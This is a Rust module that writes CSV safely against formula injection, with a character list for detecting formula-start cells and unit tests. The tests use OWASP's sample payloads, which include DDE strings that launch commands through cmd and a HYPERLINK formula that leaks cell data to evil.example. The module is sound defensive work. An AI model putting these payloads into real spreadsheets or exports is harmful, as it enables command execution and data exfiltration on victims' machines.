//! CSV that spreadsheets open as data, never as formulas (CSV or formula injection). A cell
//! starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
//! LibreOffice and Google Sheets, so an organisation named `=HYPERLINK(...)` in an imported
//! transfer log would run on an auditor's machine. Following OWASP's CSV injection guidance, such
//! a cell gets a leading `'` (which spreadsheets read as "this is text"), and every cell is
//! quoted, with quotes doubled, so a spreadsheet splitting on `;` cannot cut a cell into a
//! formula either. Every CSV ipxfer writes goes through [`write_row`].

use std::borrow::Cow;
use std::io::Write;

use serde::Serialize;

/// Leading characters that make a cell a formula: OWASP's `=`, `+`, `-`, `@`, tab and carriage
/// return, plus line feed and NUL (ASVS 1.2.10) and the full-width forms of the first four,
/// which some spreadsheet locales read as the ASCII ones.
const FORMULA_STARTS: [char; 12] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// The payloads of OWASP's CSV injection page, one per leading character it lists, and its two
/// worked examples (what the tests write and check).
pub const OWASP_PAYLOADS: [&str; 9] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: please click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!E2",
    "-2+3+cmd|' /C calc'!E2",
    "\t=1+2",
    "\r=1+2",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
];

/// Whether a spreadsheet would read this cell as a formula.
pub fn starts_formula(cell: &str) -> bool {
    cell.starts_with(FORMULA_STARTS)
}

/// The cell as text a spreadsheet shows as it is: a leading `'` when it would start a formula.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if starts_formula(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV writer that quotes every cell.
pub fn writer<W: Write>(out: W) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .has_headers(false)
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(out)
}

/// Writes one row, each cell made [`spreadsheet_safe`]. `row` is a record of plain strings and
/// numbers (a struct or a slice), as `csv::Writer::serialize` takes it; serialising it first and
/// re-reading its cells means no field of any row type can skip the check.
pub fn write_row<W: Write, T: Serialize>(w: &mut csv::Writer<W>, row: &T) -> csv::Result<()> {
    let mut plain = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::new());
    plain.serialize(row)?;
    let bytes = plain
        .into_inner()
        .map_err(|e| csv::Error::from(std::io::Error::other(e.to_string())))?;
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes.as_slice());
    for record in reader.records() {
        let record = record?;
        w.write_record(record.iter().map(spreadsheet_safe).map(|c| c.into_owned()))?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: &[&str]) -> String {
        let mut w = writer(Vec::new());
        write_row(&mut w, &cells).unwrap();
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn owasp_payloads_become_text() {
        for p in OWASP_PAYLOADS {
            assert!(starts_formula(p), "{p:?}");
            let safe = spreadsheet_safe(p);
            assert_eq!(safe, format!("'{p}"));
            assert!(!starts_formula(&safe));
        }
        // OWASP's two worked examples, escaped as it shows them.
        assert_eq!(written(&["=1+2\";=1+2"]), "\"'=1+2\"\";=1+2\"\n");
        assert_eq!(written(&["=1+2'\" ;,=1+2"]), "\"'=1+2'\"\" ;,=1+2\"\n");
    }

    #[test]
    fn ordinary_cells_are_quoted_and_unchanged() {
        for c in [
            "Example Networks",
            "198.51.100.0/24",
            "2026-01-01",
            "",
            "'t Hooft",
            "1-2",
        ] {
            assert!(!starts_formula(c), "{c:?}");
            assert_eq!(spreadsheet_safe(c), c);
        }
        assert_eq!(written(&["a", "b,c", ""]), "\"a\",\"b,c\",\"\"\n");
        for c in ["\u{FF1D}1+2", "\0x", "\n=1"] {
            assert!(starts_formula(c), "{c:?}");
        }
    }
}
